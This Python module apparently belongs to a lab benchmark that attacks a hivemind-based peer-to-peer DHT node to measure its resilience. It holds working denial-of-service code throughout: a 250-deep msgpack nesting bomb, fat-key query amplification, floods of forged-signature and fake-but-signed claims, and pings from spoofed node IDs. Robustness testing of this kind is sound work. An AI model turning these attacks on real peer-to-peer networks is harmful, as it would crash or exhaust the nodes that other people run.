"""Attacks the DHT with messages that kill, dear questions, and made-up nodes."""

from __future__ import annotations

import asyncio
import os
import struct
import time
from contextlib import suppress
from typing import Any

import msgpack

from bench.attacks.lab import Lab
from bench.attacks.victim import RUN
from paris_p2p.envelope import Envelope, seal
from paris_p2p.identity import Identity
from paris_p2p.kinds import claims_key
from paris_p2p.records import ClaimRecord

DEPTH = 250
PER_KEY = 1024


async def nested_request(lab: Lab) -> None:
    """Sends a store request of 1.8 KB: an extension in an extension, 250 deep."""
    from hivemind.proto import dht_pb2 as pb

    request = pb.StoreRequest(
        keys=[os.urandom(20)],
        subkeys=[b""],
        values=[_bomb()],
        expiration_time=[time.time() + 100],
        in_cache=[False],
    )
    await _try(lab.stub().rpc_store(request, timeout=5))


async def nested_answer(lab: Lab) -> None:
    """Sends the same as the answer to the victim's own question."""
    from hivemind.proto import dht_pb2 as pb

    asked = asyncio.Event()

    async def find(request: Any, context: Any) -> Any:
        asked.set()
        result = pb.FindResult(type=pb.FOUND_DICTIONARY, value=_bomb(), expiration_time=9e9)
        return pb.FindResponse(results=[result] * len(request.keys))

    await lab.p2p.remove_protobuf_handler("DHTProtocol.rpc_find")
    await lab.p2p.add_protobuf_handler("DHTProtocol.rpc_find", find, pb.FindRequest)
    with suppress(TimeoutError):
        async with asyncio.timeout(30):
            await asked.wait()


async def fat_key(lab: Lab) -> None:
    """Stores 1,024 claims under one key, and names it 2,000 times in one question of 44 KB."""
    from hivemind.proto import dht_pb2 as pb

    key = await _store_fat_key(lab)
    lab.victim.mark()
    await _try(lab.stub().rpc_find(pb.FindRequest(keys=[key] * 2000), timeout=60))


async def fat_key_again(lab: Lab) -> None:
    """Asks for the same key in 400 questions, 32 at once."""
    from hivemind.proto import dht_pb2 as pb

    key = await _store_fat_key(lab)
    lab.victim.mark()
    turns = asyncio.Semaphore(32)

    async def ask() -> None:
        async with turns:
            await _try(lab.stub().rpc_find(pb.FindRequest(keys=[key]), timeout=10))

    await asyncio.gather(*(ask() for _ in range(400)))


async def wrong_signatures(lab: Lab) -> None:
    """Sends a store of 2.5 MB in one message: 7,000 claims with wrong signatures."""
    await _store_forged(lab, 7000)


async def wrong_signatures_within_size(lab: Lab) -> None:
    """Sends the same in 20 messages of 500 claims, one after the other."""
    for _ in range(20):
        await _store_forged(lab, 500)


async def good_signatures(lab: Lab) -> None:
    """Sends 10 stores of 1,000 validly signed claims of made-up runs, one after the other."""
    who, now = Identity.generate(), time.time()
    for _ in range(10):
        await _store(lab, [_claim(who, os.urandom(32).hex(), now) for _ in range(1000)])


async def made_up_nodes(lab: Lab) -> None:
    """Stores a fat key; then pings 300 times, each as another node, each to be handed what is held."""
    from hivemind.proto import dht_pb2 as pb

    await _store_fat_key(lab)
    lab.victim.mark()
    for _ in range(300):
        await _try(lab.stub().rpc_ping(pb.PingRequest(peer=pb.NodeInfo(node_id=os.urandom(20))), timeout=5))


async def _store_fat_key(lab: Lab) -> bytes:
    now = time.time()
    return await _store(lab, [_claim(Identity.generate(), RUN, now) for _ in range(PER_KEY)])


async def _store_forged(lab: Lab, count: int) -> None:
    good = _claim(Identity.generate(), RUN, time.time())
    await _store(lab, [good] * count, [good.data[:-8] + os.urandom(8) for _ in range(count)])


async def _store(lab: Lab, records: list[Envelope[Any]], datas: list[bytes] | None = None) -> bytes:
    """Packs records into one message, with other bytes where `datas` says so; the key is the first one's."""
    from hivemind.dht.routing import DHTID
    from hivemind.proto import dht_pb2 as pb

    keys = [DHTID.generate(source=claims_key(e.record.run, e.record.slot)).to_bytes() for e in records]
    request = pb.StoreRequest(
        keys=keys,
        subkeys=[msgpack.packb(f"{e.signer}:claim") for e in records],
        values=[msgpack.packb(data) for data in datas or [e.data for e in records]],
        expiration_time=[float(e.record.expires_at) for e in records],
        in_cache=[False] * len(records),
    )
    await _try(lab.stub().rpc_store(request, timeout=60))
    return keys[0]


def _claim(who: Identity, run: str, now: float) -> Envelope[Any]:
    times = {"issued_at": now, "expires_at": now + 3000, "claimed_at": now}
    return seal(who, ClaimRecord(run=run, slot="expert-0", seq=1, epoch=1, **times))


def _bomb() -> bytes:
    data = b"\x90"
    for _ in range(DEPTH):
        data = b"\x91\xc9" + struct.pack(">I", len(data)) + b"\x40" + data
    return data


async def _try(call: Any) -> None:
    """Sends once; a victim that refuses, or dies, is what is measured."""
    from hivemind.p2p.p2p_daemon_bindings.utils import P2PDaemonError, P2PHandlerError

    with suppress(TimeoutError, P2PHandlerError, P2PDaemonError):
        await call
